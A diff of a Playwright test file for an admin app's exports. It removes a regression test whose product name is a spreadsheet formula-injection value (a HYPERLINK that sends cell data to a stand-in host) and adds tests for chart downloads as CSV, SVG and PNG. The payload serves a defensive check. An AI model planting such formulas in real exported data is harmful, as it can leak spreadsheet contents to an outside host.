@@ -3,7 +3,7 @@ import type { Page } from '@playwright/test'
 import Papa from 'papaparse'
 import { ruth } from '#sandbox/account/people.seeds'
 import { expect, test } from '../../support/fixtures'
-import { openCatalogue } from '../catalogue/steps'
+import { charts, openPlatform } from '../platform/steps'
 import { dialog, dialogButton, openUsers } from '../steps'
 import { exportList } from './steps'
 
@@ -35,15 +35,6 @@ test('all rows of a filtered list are saved, also those of other pages', async (
   await dialogButton(page, 'Close').last().click()
   await expect(dialog(page)).toHaveCount(0)
   await expect(page).toHaveURL('/admin/users?status=active')
-})
-
-test('a formula in a name is saved as a text', async ({ page, sandbox }) => {
-  const name = '=HYPERLINK("http://x.test?"&A1,"Müller, 😀")'
-  await sandbox.call('PUT', '/products/ACPMH', { name })
-  await openCatalogue(page, 'Products', 'search=ACPMH')
-  const file = await fileAfter(page, () => exportList(page))
-  expect(file.name).toMatch(/^products-acpmh-/)
-  expect(file.rows).toMatchObject([{ 'Product ID': 'ACPMH', 'Product Name': `'${name}`, Enabled: 'yes' }])
 })
 
 test('Escape stops an export, and the loaded rows are saved as a partial file', async ({ page, sandbox }) => {
@@ -93,4 +84,36 @@ test('after a failed page, Continue loads the rest once', async ({ page, sandbox
     '2',
     ...Array.from({ length: Math.ceil(ids.size / 100) - 1 }, (_, at) => `${at + 2}`),
   ])
+})
+
+const menuOf = (page: Page, title: string) => page.getByRole('button', { name: `Download ${title}`, exact: true })
+
+/** Chooses a file of a chart, and returns its name and content. */
+async function fileOf(page: Page, title: string, entry: string) {
+  await menuOf(page, title).click()
+  await expect(page.getByRole('menu').locator(':focus')).toHaveCount(1)
+  const item = page.getByRole('menuitem', { name: entry, exact: true })
+  const [download] = await Promise.all([page.waitForEvent('download'), item.click()])
+  await expect(menuOf(page, title)).toBeFocused()
+  return { name: download.suggestedFilename(), content: await readFile(await download.path()) }
+}
+
+test('a chart is saved as numbers, as SVG and as PNG', async ({ page, sandbox }) => {
+  await openPlatform(page, sandbox, '?period=30d')
+  await expect(charts(page)).toHaveCount(4)
+  const numbers = await fileOf(page, 'New users', 'Numbers (CSV)')
+  expect(numbers.content.toString()).toMatch(/^\uFEFFPeriod,Users\r\n\d{4}-\d\d-\d\d,\d+\r\n/)
+  expect(numbers.name).toMatch(/^new-users-30d-\d{4}-\d\d-\d\d\.csv$/)
+
+  const vector = await fileOf(page, 'New users', 'Picture (SVG)')
+  expect(vector.name).toBe(numbers.name.replace('.csv', '.svg'))
+  const [, width, height] = /<svg[^>]* width="([\d.]+)" height="([\d.]+)"/.exec(vector.content.toString()) ?? []
+
+  const { name, content } = await fileOf(page, 'New users', 'Picture (PNG)')
+  expect(name).toBe(numbers.name.replace('.csv', '.png'))
+  expect(content.subarray(0, 8).toString('hex')).toBe('89504e470d0a1a0a')
+  const size = [content.readUInt32BE(16), content.readUInt32BE(20)]
+  expect(size).toEqual([Math.floor(2 * Number(width)), Math.floor(2 * Number(height))])
+  // A picture without the chart is much smaller.
+  expect(content.length).toBeGreaterThan(10_000)
 })
